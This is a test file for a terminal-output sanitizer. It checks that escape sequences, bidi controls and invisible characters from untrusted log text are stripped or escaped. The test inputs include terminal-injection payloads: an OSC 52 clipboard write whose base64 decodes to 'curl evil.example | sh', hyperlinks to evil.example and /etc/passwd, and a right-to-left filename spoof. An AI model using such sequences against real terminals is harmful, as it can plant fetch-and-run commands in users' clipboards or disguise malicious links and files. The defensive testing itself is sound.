import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { decodeUntrusted, decodeUntrustedLines, sanitizeForTerminal, sanitizeLines, sanitizeMultiline, visibleText } from '../../src/dms/terminal-text.js';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
// Nothing a terminal acts on may survive: C0 (TAB included, it becomes a space), DEL, C1, bidi controls.
const ACTIVE = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

describe('sanitizeForTerminal', () => {
  it('returns ordinary text unchanged, including non-ASCII', () => {
    for (const text of ['', 'connect from unknown[172.17.0.1]', 'jörg@bücher.test 日本語 😀 ‐ “quoted”']) {
      expect(sanitizeForTerminal(text)).toBe(text);
    }
  });

  it('removes OSC title changes with BEL and with ST terminators', () => {
    expect(sanitizeForTerminal(`evil${ESC}]0;pwned${BEL}.example`)).toBe('evil.example');
    expect(sanitizeForTerminal(`a${ESC}]2;title${ST}b`)).toBe('ab');
    expect(sanitizeForTerminal(`a${ESC}]1;icon\x9cb`)).toBe('ab');
  });

  it('removes OSC 8 hyperlinks but keeps their visible text', () => {
    expect(sanitizeForTerminal(`${ESC}]8;;http://evil.example/${BEL}click here${ESC}]8;;${BEL}`)).toBe('click here');
    expect(sanitizeForTerminal(`${ESC}]8;id=1;file:///etc/passwd${ST}x${ESC}]8;;${ST}`)).toBe('x');
  });

  it('removes OSC 52 clipboard writes and other OSC strings', () => {
    expect(sanitizeForTerminal(`x${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}y`)).toBe('xy');
    expect(sanitizeForTerminal(`x${ESC}]4;1;rgb:ff/00/00${BEL}y`)).toBe('xy');
  });

  it('removes clear-screen, cursor moves, private modes and colours', () => {
    expect(sanitizeForTerminal(`${ESC}[2J${ESC}[Hhome`)).toBe('home');
    expect(sanitizeForTerminal(`a${ESC}[10;20Hb${ESC}[5Ac${ESC}[3Dd${ESC}[K`)).toBe('abcd');
    expect(sanitizeForTerminal(`${ESC}[?1049h${ESC}[?25lhidden${ESC}[?1000h`)).toBe('hidden');
    expect(sanitizeForTerminal(`${ESC}[1;31mred${ESC}[0m ${ESC}[38;2;255;0;0mtrue${ESC}[m`)).toBe('red true');
    expect(sanitizeForTerminal(`${ESC}[6n${ESC}[>c${ESC}[=5u`)).toBe('');
  });

  it('removes 8-bit CSI and OSC', () => {
    expect(sanitizeForTerminal('a\u009b2Jb')).toBe('ab');
    expect(sanitizeForTerminal('a\u009b?1049hb')).toBe('ab');
    expect(sanitizeForTerminal('a\u009d0;title\u009cb')).toBe('ab');
  });

  it('removes DCS, SOS, PM and APC strings', () => {
    expect(sanitizeForTerminal(`a${ESC}P1$qm${ST}b`)).toBe('ab');
    expect(sanitizeForTerminal(`a${ESC}_Gf=100;AAAA${ST}b`)).toBe('ab');
    expect(sanitizeForTerminal(`a${ESC}^private${ST}b${ESC}Xsos${ST}c`)).toBe('abc');
    expect(sanitizeForTerminal('a\u0090dcs\u009cb\u009fapc\u009cc')).toBe('abc');
  });

  it('removes single-character escapes (reset, save/restore cursor, charsets, screen alignment)', () => {
    expect(sanitizeForTerminal(`a${ESC}cb${ESC}7c${ESC}8d${ESC}(0e${ESC}#8f${ESC}Mg${ESC}=h`)).toBe('abcdefgh');
  });

  it('drops an unterminated string sequence to the end, and a lone ESC', () => {
    expect(sanitizeForTerminal(`shown${ESC}]0;swallowed like a terminal would`)).toBe('shown');
    expect(sanitizeForTerminal(`end${ESC}`)).toBe('end');
    expect(sanitizeForTerminal(`a${ESC}[`)).toBe('a');
  });

  it('shows other control characters as ?, TAB as a space', () => {
    expect(sanitizeForTerminal('a\x00b\x07c\rd\ne\x7ff\x08g')).toBe('a?b?c?d?e?f?g');
    expect(sanitizeForTerminal('col1\tcol2')).toBe('col1 col2');
    expect(sanitizeForTerminal('next\u0085line \u008eshift')).toBe('next?line ?shift');
  });

  it('removes bidi overrides, isolates and marks', () => {
    expect(sanitizeForTerminal('invoice\u202egnp.exe')).toBe('invoicegnp.exe');
    expect(sanitizeForTerminal('\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069x\u200e\u200f\u061c')).toBe('x');
  });

  it('replaces lone surrogates and keeps pairs', () => {
    expect(sanitizeForTerminal('a\ud800b\udc00c')).toBe('a\ufffdb\ufffdc');
    expect(sanitizeForTerminal('\ud83d\ude00\u0007')).toBe('😀?');
  });

  it('leaves nothing active in random hostile text', () => {
    const pieces = [ESC, '[', ']', 'P', '_', '^', 'X', '\\', BEL, '\x9b', '\x9c', '\x9d', '\x90', '\t', '\n', '\r', '\x00', '\x7f', '\u202e', '\u2066', '0', ';', '?', 'a', 'é', '\ud800', '\udc00'];
    let seed = 42;
    const next = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let round = 0; round < 2000; round++) {
      let text = '';
      for (let i = next() % 40; i > 0; i--) text += pieces[next() % pieces.length];
      const clean = sanitizeForTerminal(text);
      expect(clean).not.toMatch(ACTIVE);
      expect(clean).not.toMatch(LONE_SURROGATE);
      expect(sanitizeForTerminal(clean)).toBe(clean);
    }
  });
});

describe('sanitizeLines', () => {
  it('splits on LF and CRLF and drops the final empty line', () => {
    expect(sanitizeLines(`one\r\ntwo${ESC}[2J\nthree\n`)).toEqual(['one', 'two', 'three']);
    expect(sanitizeLines('')).toEqual([]);
    expect(sanitizeLines('\n')).toEqual(['']);
  });
});

describe('sanitizeMultiline', () => {
  it('keeps line breaks and tabs, drops the CR of CRLF, and neutralises the rest', () => {
    expect(sanitizeMultiline('Jail list:\tdovecot\r\nnext\n')).toBe('Jail list:\tdovecot\nnext\n');
    expect(sanitizeMultiline(`a${ESC}]0;t${BEL}b\rEVIL\u009b2J\n\u202ec`)).toBe('ab?EVIL\nc');
  });
});

describe('decodeUntrusted', () => {
  it('replaces invalid UTF-8 with U+FFFD and sanitizes', () => {
    expect(decodeUntrusted(Buffer.from([0x61, 0xff, 0xfe, 0x62]))).toBe('a\ufffd\ufffdb');
    // U+009B encoded (C2 9B) is an 8-bit CSI; a raw 0x9B byte is invalid UTF-8.
    expect(decodeUntrusted(Buffer.from([0x61, 0xc2, 0x9b, 0x32, 0x4a, 0x62, 0x9b, 0x63]))).toBe('ab\ufffdc');
    expect(decodeUntrusted(Buffer.from('j\u00f6rg\x1b]0;t\x07', 'utf8'))).toBe('jörg');
  });

  it('decodes the real mail.log line that rsyslog let C1 and invalid bytes through', () => {
    const lines = decodeUntrustedLines(readFileSync(new URL('../fixtures/mail.log', import.meta.url)));
    expect(lines.at(-1)).toBe('Nov 22 14:14:01 mail postfix/smtpd[1545]: warning: 8bit csi  and raw \ufffd31m bad utf8 \ufffd\ufffd end');
    for (const line of lines) expect(line).not.toMatch(ACTIVE);
  });
});

describe('invisible characters', () => {
  it('are shown as escapes in console text, so two names that look alike can be told apart', () => {
    expect(sanitizeForTerminal('ad\u200bmin')).toBe('ad\\u200bmin');
    expect(sanitizeForTerminal('a\u00adb\u2060c\ufeffd\u3164e\u2028f\u2029g')).toBe('a\\xadb\\u2060c\\ufeffd\\u3164e\\u2028f\\u2029g');
    expect(sanitizeForTerminal('tag\u{e0041}\u{e007f}')).toBe('tag\\u{e0041}\\u{e007f}');
    expect(sanitizeForTerminal('jörg 😀 日本語')).toBe('jörg 😀 日本語');
  });
});

describe('visibleText (user input quoted in a message)', () => {
  it('shows every control, direction and invisible character as an escape and keeps the rest', () => {
    expect(visibleText(`${ESC}]52;c;ZXZpbA==${BEL}x`)).toBe('\\x1b]52;c;ZXZpbA==\\x07x');
    expect(visibleText('a\u0085b\u009bc')).toBe('a\\x85b\\x9bc');
    expect(visibleText('jane\u202e@x')).toBe('jane\\u202e@x');
    expect(visibleText('pass\udcfcword')).toBe('pass\\xfcword');
    expect(visibleText('a\nb')).toBe('a\\x0ab');
    expect(visibleText('jörg@bücher.test 😀')).toBe('jörg@bücher.test 😀');
  });

  it('is idempotent: escaping twice changes nothing more', () => {
    const once = visibleText(`x${ESC}[2J\u200b`);
    expect(visibleText(once)).toBe(once);
  });
});
